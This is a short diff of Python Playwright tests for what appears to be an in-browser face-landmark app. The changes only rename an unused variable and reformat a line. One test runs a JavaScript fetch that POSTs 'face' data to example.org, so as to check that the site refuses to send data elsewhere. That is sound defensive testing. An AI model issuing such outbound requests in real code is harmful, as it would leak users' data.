@@ -169,7 +169,7 @@ def test_a_picture_gets_the_landmarks_of_pytorch(page: Any, searched: Path):
     check(searched, pixels, table)
     box = page.locator(".box").bounding_box()
     view = page.locator("#view").bounding_box()
-    x0, y0, x1, y1 = box_of(table)[0] + 0.5
+    x0, y0, x1, _ = box_of(table)[0] + 0.5
     scale = view["width"] / SIZE
     assert box["x"] == pytest.approx(view["x"] + scale * x0, abs=1)
     assert box["y"] == pytest.approx(view["y"] + scale * y0, abs=1)
@@ -329,5 +329,7 @@ def test_a_runtime_that_has_been_changed_is_not_run(name: str, other: Any, site:
 
 def test_nothing_can_be_sent_elsewhere(other: Any, site: str):
     other.goto(site)
-    tried = other.evaluate("fetch('https://example.org/', { method: 'POST', body: 'face' }).then(() => 'sent', () => 'refused')")
+    tried = other.evaluate(
+        "fetch('https://example.org/', { method: 'POST', body: 'face' }).then(() => 'sent', () => 'refused')"
+    )
     assert tried == "refused"
